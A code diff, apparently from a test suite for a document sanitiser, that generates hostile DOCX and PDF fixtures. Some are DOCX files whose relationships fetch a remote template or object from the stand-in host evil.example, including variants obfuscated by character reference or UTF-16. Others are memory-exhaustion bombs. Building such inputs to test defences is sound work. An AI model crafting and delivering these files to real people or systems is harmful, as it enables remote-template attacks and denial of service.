@@ -139,17 +139,6 @@ def offices() -> Iterator[Hostile]:
     yield a_file(
         "xlsx-outside-entity", an_xlsx({"xl/sharedStrings.xml": outside}), "a.xlsx", SCRIPT, "office.entities"
     )
-    for kind in ("attachedTemplate", "oleObject", "frame", "image"):
-        part = {"word/_rels/settings.xml.rels": relation(kind, "http://evil.example/t.dotm")}
-        content = a_package(DOCX | part)
-        yield a_file(f"docx-fetches-{kind}", content, "a.docx", PROGRAM, "office.elsewhere")
-    link = {"word/_rels/document.xml.rels": relation("hyperlink", "http://example.org/")}
-    yield a_file(
-        "docx-link",
-        a_package(DOCX | link),
-        "a.docx",
-        CRASH,
-    )
     yield a_file(
         "docx-bomb", lambda: a_docx(word__a_dot_xml=bytes(90_000_000)), "a.docx", MEMORY, "office.bomb"
     )
@@ -203,6 +192,29 @@ def offices() -> Iterator[Hostile]:
         yield a_file(f"zip-{name}", content, "plan.docx", DISGUISE, "file.archive")
 
 
+def relations() -> Iterator[Hostile]:
+    """Documents that lead elsewhere."""
+    for kind in ("attachedTemplate", "oleObject", "frame", "image"):
+        part = {"word/_rels/settings.xml.rels": relation(kind, "http://evil.example/t.dotm")}
+        content = a_package(DOCX | part)
+        yield a_file(f"docx-fetches-{kind}", content, "a.docx", PROGRAM, "office.elsewhere")
+    hidden = relation("attachedTemplate", "http://evil.example/").replace(b'"External"', b'"&#69;xternal"')
+    for name, content in {"by-number": hidden, "in-two-bytes": hidden.decode().encode("utf-16")}.items():
+        part = {"word/_rels/settings.xml.rels": content}
+        yield a_file(f"docx-fetches-{name}", a_package(DOCX | part), "a.docx", PROGRAM, "office.elsewhere")
+    many_relations = {"word/_rels/a.xml.rels": b"<Relationship " * 3_000_000}
+    yield a_file("docx-relations", lambda: a_package(DOCX | many_relations), "a.docx", MEMORY, "office.bomb")
+    few = {"word/_rels/a.xml.rels": b"<Relationship " * 70_000}
+    yield a_file("docx-few-relations", a_package(DOCX | few), "a.docx", MEMORY)
+    link = {"word/_rels/document.xml.rels": relation("hyperlink", "http://example.org/")}
+    yield a_file(
+        "docx-link",
+        a_package(DOCX | link),
+        "a.docx",
+        CRASH,
+    )
+
+
 def a_pdf(*objects: bytes, head: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", tail: bytes = b"") -> bytes:
     """A PDF of some objects."""
     body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, one) for number, one in enumerate(objects, 1))
@@ -244,6 +256,8 @@ def pdfs() -> Iterator[Hostile]:
     bomb = a_pdf(page, *[packed(b"").replace(zlib.compress(b""), zeros(30_000_000))] * 300)
     yield a_file("pdf-bomb", bomb, "bomb.pdf", MEMORY)
     yield a_file("pdf-streams", a_pdf(page, b"/ObjStm stream\n" * 100_000), "many.pdf", MEMORY)
+    yield a_file("pdf-hidden-names", lambda: a_pdf(b"/#4a" * 3_000_000), "many.pdf", MEMORY)
+    yield a_file("pdf-dictionaries", lambda: a_pdf(b"/ObjStm" * 2_000_000), "many.pdf", MEMORY)
     yield a_file("pdf-names", a_pdf(b"/JS#4a" * 1_000_000), "many.pdf", MEMORY)
     whole = a_pdf(page)
     for name, content in {
